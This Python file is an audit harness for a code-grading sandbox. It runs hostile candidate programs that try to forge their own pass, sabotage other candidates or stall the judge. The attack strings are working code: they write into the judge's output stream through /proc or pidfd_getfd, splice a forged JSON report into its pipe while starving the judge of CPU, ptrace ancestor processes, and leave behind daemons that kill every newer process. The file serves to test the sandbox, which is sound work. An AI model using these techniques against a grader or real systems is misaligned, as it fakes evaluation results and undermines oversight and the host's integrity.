"""Attacks on the code verifier's verdicts: a candidate that knows our source tries to forge its
own pass, to sabotage its batch-mates or to stall the judge. Each attack is judged in one batch
between correct and wrong batch-mates; it holds when every verdict is the one it would be alone.

The probes return the right answer only if their attack got through, so a pass of the attacker
is itself the proof of a breach, whatever the attack did to the others.
"""

from __future__ import annotations

from dataclasses import dataclass

from pydantic import BaseModel, ConfigDict

from problems import AssertTests, CodeProblem, CodeTests, StdioCase
from sandbox import Sandbox
from verifiers.code.verify import verify_many

PROBLEM = CodeProblem(
    id="audit/add",
    statement="Add two integers; as a program, read two integers and print their sum.",
    entry_point="add",
    tests=CodeTests(
        asserts=AssertTests(
            style="check",
            code="def check(candidate):\n"
            "    assert candidate(1, 2) == 3\n"
            "    assert candidate(-5, 5) == 0\n",
        ),
        stdio=[StdioCase(input="1 2\n", output="3\n")],
    ),
)
MAIN = "\nif __name__ == '__main__':\n    print(add(*map(int, input().split())))\n"
RIGHT = "def add(a, b):\n    return a + b\n" + MAIN
WRONG = "def add(a, b):\n    return a * b\n" + MAIN

# Every probe sets WORKED when its attack reached another process, and is right only then.
_PROBE_PRELUDE = """import ctypes, os, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
WORKED = False

def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]

def ancestors():
    chain, pid = [], os.getppid()
    while pid > 0 and pid not in chain:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as stat:
                pid = int(stat.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    return chain
"""
_PROBE_ANSWER = "def add(a, b):\n    return a + b if WORKED else a - b\n" + MAIN


def _probe(attack: str) -> str:
    return _PROBE_PRELUDE + attack + _PROBE_ANSWER


# A candidate that leaves a process behind that finds an ancestor of the judge whose stdout it may
# open or copy (the stream the judge reports on), shrinks that pipe to one page so the judge's
# report needs several writes, and once the report has begun, starves the judge of CPU and writes
# `SPLICE` as soon as the pipe has room. Its own answers are long and wrong: the report takes many
# pages. With the judge out of its reach it finds no stream and is only wrong.
_SPLICER = """import ctypes, fcntl, os, termios, time

def _stream(pid):
    try:
        return os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    except OSError:
        pass
    try:  # pidfd_getfd
        fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(pid), 1, 0)
    except OSError:
        return None
    return fd if fd >= 0 else None

def _splice(splice, ready):
    targets, pid = [], os.getppid()
    while pid > 0:
        fd = _stream(pid)
        if fd is not None:
            targets.append(fd)
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
    for fd in targets:
        try:
            fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
        except OSError:
            pass
    if not targets:
        return
    judge = os.getppid()  # the subreaper this process was left to
    try:  # watch the pipe from a CPU the judge does not run on
        os.sched_setaffinity(judge, {1})
        os.sched_setaffinity(0, {0})
    except OSError:
        pass
    os.close(ready)  # the program goes on only now
    end = time.monotonic() + 5
    starved = False
    while time.monotonic() < end:
        _await(targets[0], lambda pending: pending > 0, end)  # the report fills the pipe
        if not starved:  # idle priority for the judge, and a spinner on its CPU
            starved = True
            try:
                os.sched_setscheduler(judge, os.SCHED_IDLE, os.sched_param(0))
                if os.fork() == 0:
                    os.sched_setaffinity(0, {1})
                    spun = time.monotonic() + 0.5
                    while time.monotonic() < spun:
                        pass
                    os._exit(0)
            except OSError:
                pass
        os.write(targets[0], splice)  # in, as soon as the host makes room
        _await(targets[0], lambda pending: pending == 0, end)

def _await(fd, condition, end):
    pending = bytearray(4)
    while time.monotonic() < end:
        fcntl.ioctl(fd, termios.FIONREAD, pending)
        if condition(int.from_bytes(pending, "little")):
            return


wait, ready = os.pipe()
if not os.path.exists("/tmp/splicing") and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, ready)
        os.closerange(ready + 1, 1024)
        open("/tmp/splicing", "w").close()
        try:
            _splice(SPLICE, ready)
        finally:
            os._exit(0)
    os._exit(0)
os.close(ready)
os.read(wait, 1)
os.close(wait)

def add(a, b):
    return "\u00e9" * 3000

if __name__ == "__main__":
    print("\u00e9" * 3000)
"""
FORGED = '{"judged": [{"tests": [{"name": "assert 1", "kind": "assert", "status": "passed"}]}]}'
SPLICERS = {
    "malformed JSON": _SPLICER.replace("SPLICE", repr(b'}]"status": "passed"{')),
    "a whole forged report": _SPLICER.replace("SPLICE", repr(FORGED.encode())),
}


@dataclass(frozen=True)
class VerifierAttack:
    """One hostile candidate; `expected` says what must hold for the audit to pass."""

    name: str
    category: str  # forgery, sabotage or stall
    expected: str
    program: str


ATTACKS = (
    VerifierAttack(
        "judge-stdout",
        "forgery",
        "no process holding the judge's report stream can be opened through /proc or pidfd",
        _probe(
            """for pid in others():
    try:
        with open(f"/proc/{pid}/fd/1", "wb", buffering=0) as stream:
            stream.write(b"\\n")
            WORKED = True
    except OSError:
        pass
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        continue
    stolen = libc.syscall(438, pidfd, 1, 0)  # pidfd_getfd(pidfd, 1, 0)
    if stolen >= 0:
        WORKED = True
        os.close(stolen)
    os.close(pidfd)
"""
        ),
    ),
    VerifierAttack(
        "fake-report",
        "forgery",
        "a report printed by the candidate counts for nothing",
        'print(\'{"judged": [{"tests": [{"name": "assert 1", "kind": "assert", '
        '"status": "passed"}]}]}\')\n' + WRONG,
    ),
    VerifierAttack(
        "prlimit-zygote",
        "sabotage",
        "the zygote's file-descriptor limit cannot be lowered for the candidates after",
        _probe(
            """if __name__ == "__main__":  # run as a program, the last thing the judge asks of it
    try:  # the program's parent leads its session; the zygote forked that
        resource.prlimit(ancestors()[1], resource.RLIMIT_NOFILE, (3, 3))
        WORKED = True
    except (OSError, IndexError):
        pass
"""
        ),
    ),
    VerifierAttack(
        "ptrace-ancestors",
        "sabotage",
        "no process above the candidate (zygote, judge, the sandbox's init) can be traced",
        _probe(
            """for pid in ancestors():
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        WORKED = True
        os.waitpid(pid, 0x40000000)  # __WALL
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
"""
        ),
    ),
    VerifierAttack(
        "slow-the-judge",
        "sabotage",
        "no other process can be made SCHED_IDLE, pinned to one CPU or reniced",
        _probe(
            """one_cpu = {min(os.sched_getaffinity(0))}
for pid in others():
    for attempt in (
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, one_cpu),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
    ):
        try:
            attempt()
            WORKED = True
        except OSError:
            pass
try:
    os.setpriority(os.PRIO_USER, os.getuid(), 19)  # every process of this user at once
    WORKED = True
except OSError:
    pass
"""
        ),
    ),
    VerifierAttack(
        "freeze-the-zygote",
        "sabotage",
        "a stopped zygote sends the rest of the batch to runs of their own",
        "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n" + WRONG,
    ),
    VerifierAttack(
        "kill-everything",
        "sabotage",
        "kill(-1) reaches only the candidate's own user: the judge reports",
        "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + WRONG,
    ),
    VerifierAttack(
        "worker-killer-daemon",
        "sabotage",
        "a daemon that kills every newer process is gone before the next candidate",
        """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1024)
        me = os.getpid()
        while True:
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if pid > me:
                    try:
                        os.kill(pid, 9)
                    except OSError:
                        pass
            time.sleep(0.005)
    os._exit(0)
"""
        + WRONG,
    ),
    VerifierAttack(
        "splice-forged-report",
        "forgery",
        "a report spliced into the judge's stream is rejected: the splicer fails alone",
        SPLICERS["a whole forged report"],
    ),
    VerifierAttack(
        "splice-malformed-json",
        "forgery",
        "malformed JSON spliced into the judge's stream crashes nothing and passes nobody",
        SPLICERS["malformed JSON"],
    ),
    VerifierAttack(
        "hang",
        "stall",
        "a call that never returns costs its own test's limit, nobody else's",
        "def add(a, b):\n    while True:\n        pass\n" + MAIN,
    ),
    VerifierAttack(
        "huge-int",
        "stall",
        "an answer too large to show or compare costs its own test's limit, nobody else's",
        "def add(a, b):\n    return (1 << 62_000_000) - 1\n" + MAIN,
    ),
)

# The verdicts an attack's batch must get: what each member gets alone.
BATCH = (("right", RIGHT, "pass"), ("attacker", "", "fail"), ("wrong", WRONG, "fail"))


class VerifierAuditRow(BaseModel):
    model_config = ConfigDict(frozen=True)

    attack: str
    category: str
    expected: str
    observed: str
    held: bool


def audit_verifier(
    sandbox: Sandbox, attacks: tuple[VerifierAttack, ...] = ATTACKS
) -> list[VerifierAuditRow]:
    """Each attack in a batch of [right, attacker, right, wrong]: it holds when the attacker gets
    no pass, each right batch-mate passes and the wrong one fails."""
    rows = []
    for attack in attacks:
        members = [BATCH[0], BATCH[1], BATCH[0], BATCH[2]]
        jobs = [(PROBLEM, program or attack.program) for _, program, _ in members]
        verdicts = verify_many(jobs, sandbox, workers=1, examples=0, test_timeout=1.0)
        changed = [
            f"{role} {verdict.status} (alone: {expected})"
            for (role, _, expected), verdict in zip(members, verdicts, strict=True)
            if (verdict.status == "pass" if role == "attacker" else verdict.status != expected)
        ]
        observed = "; ".join(changed) or "attacker: " + verdicts[1].status + ", mates as alone"
        rows.append(
            VerifierAuditRow(
                attack=attack.name,
                category=attack.category,
                expected=attack.expected,
                observed=observed,
                held=not changed,
            )
        )
    return rows
